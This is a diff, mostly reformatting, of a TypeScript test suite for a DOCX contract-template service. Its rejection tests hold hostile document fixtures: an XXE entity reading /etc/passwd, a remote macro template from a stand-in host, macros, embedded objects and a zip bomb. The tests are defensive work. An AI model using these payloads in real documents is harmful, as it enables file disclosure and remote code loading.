@@ -32,7 +32,8 @@ const relation = (type: string, target: string, more = '') =>
 const relations = (inside: string) =>
   `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inside}</Relationships>`;
 
-const run = (text: string, format = '') => `<w:r>${format && `<w:rPr>${format}</w:rPr>`}<w:t xml:space="preserve">${text}</w:t></w:r>`;
+const run = (text: string, format = '') =>
+  `<w:r>${format && `<w:rPr>${format}</w:rPr>`}<w:t xml:space="preserve">${text}</w:t></w:r>`;
 const paragraph = (...runs: string[]) => `<w:p>${runs.join('')}</w:p>`;
 
 function docx(body: string, more: Record<string, string | Buffer> = {}): Buffer {
@@ -121,21 +122,31 @@ describe('a file with fields', () => {
     });
     expect(contractPreview.missing).toEqual(['Nombre del cliente', 'Fecha firma', 'Interes']);
     expect(contractPreview.body).toContain('__________');
-    const { contract, userErrors } = (await ana.does(GenerateContractDocument, { input: { templateId, values: VALUES } }))
-      .generateContract;
+    const { contract, userErrors } = (
+      await ana.does(GenerateContractDocument, { input: { templateId, values: VALUES } })
+    ).generateContract;
     expect(userErrors).toEqual([]);
     expect(contract).toMatchObject({ templateId, templateName: 'Carta compromiso', title: 'Carta compromiso' });
     const said = `Entre Eva <b>"Ñandú"</b> & O'Hara 😀 y quien firma, por $10,000.00 (DIEZ MIL PESOS 00/100 M.N.), el 23 de noviembre de 2026.`;
     expect(contract?.latest.text).toContain(said);
     expect(contract?.latest.text).toContain('intereses de 5 %.');
     const id = contract?.id ?? '';
-    const write = async () => (await ana.does(ContractDocumentDocument, { id, format: 'DOCX' })).contractDocument.content;
+    const write = async () =>
+      (await ana.does(ContractDocumentDocument, { id, format: 'DOCX' })).contractDocument.content;
     const file = Buffer.from(await write(), 'base64');
-    expect(linesOfDocx(file).map((line) => line.text).join('\n')).toContain(said);
+    expect(
+      linesOfDocx(file)
+        .map((line) => line.text)
+        .join('\n'),
+    ).toContain(said);
     expect(await write()).toBe(file.toString('base64'));
     const body = bodyWith((await readsContract(ana, id)).versions[0]?.body ?? '', 'Añadido.');
     await ana.does(SaveContractVersionDocument, { input: { contractId: id, baseNumber: 1, body } });
-    expect(linesOfDocx(Buffer.from(await write(), 'base64')).map((line) => line.text).join('\n')).toContain('Añadido.');
+    expect(
+      linesOfDocx(Buffer.from(await write(), 'base64'))
+        .map((line) => line.text)
+        .join('\n'),
+    ).toContain('Añadido.');
   });
 
   test('missing values and values that cannot be are named as in other templates', async () => {
@@ -181,7 +192,10 @@ describe('its fields', () => {
     const input = { templateId: id, values: [text('uno', 'mundo')] };
     const { contract } = (await ana.does(GenerateContractDocument, { input })).generateContract;
     await ana.does(DeleteContractTemplateDocument, { id });
-    expect(await readsContract(ana, contract?.id ?? '')).toMatchObject({ templateId: null, templateName: 'Carta compromiso' });
+    expect(await readsContract(ana, contract?.id ?? '')).toMatchObject({
+      templateId: null,
+      templateName: 'Carta compromiso',
+    });
     expect((await ana.graphql(GenerateContractDocument, { input })).errors[0]?.extensions.code).toBe('NOT_FOUND');
   });
 });
@@ -199,15 +213,25 @@ describe('a file that is not taken', () => {
     ['with other delimiters', () => docx(paragraph(run('{{=[[ ]]=}} [[x]]'))), /no es un nombre de campo/],
     ['with an open brace', () => docx(paragraph(run('{{uno'))), /llaves dobles/],
     ['with a macro', () => docx(one, { 'word/vbaProject.bin': 'x' }), /macros/],
-    ['of a type with macros', () => docx(one, { '[Content_Types].xml': typesOf('application/vnd.ms-word.document.macroEnabled.main+xml') }), /macros/],
+    [
+      'of a type with macros',
+      () => docx(one, { '[Content_Types].xml': typesOf('application/vnd.ms-word.document.macroEnabled.main+xml') }),
+      /macros/,
+    ],
     ['with an embedded program', () => docx(one, { 'word/embeddings/oleObject1.bin': 'x' }), /macros/],
     ['that grows too much', () => docx(one, { 'word/media/a.bin': bomb() }), /descomprimirse/],
-    ['with entities', () => docx(one, { 'word/document.xml': document('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>') }), /otros archivos/],
+    [
+      'with entities',
+      () => docx(one, { 'word/document.xml': document('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>') }),
+      /otros archivos/,
+    ],
     [
       'that fetches a template',
       () =>
         docx(one, {
-          'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'https://mal.example/x.dotm', ' TargetMode="External"')),
+          'word/_rels/settings.xml.rels': relations(
+            relation('attachedTemplate', 'https://mal.example/x.dotm', ' TargetMode="External"'),
+          ),
         }),
       /otros archivos/,
     ],
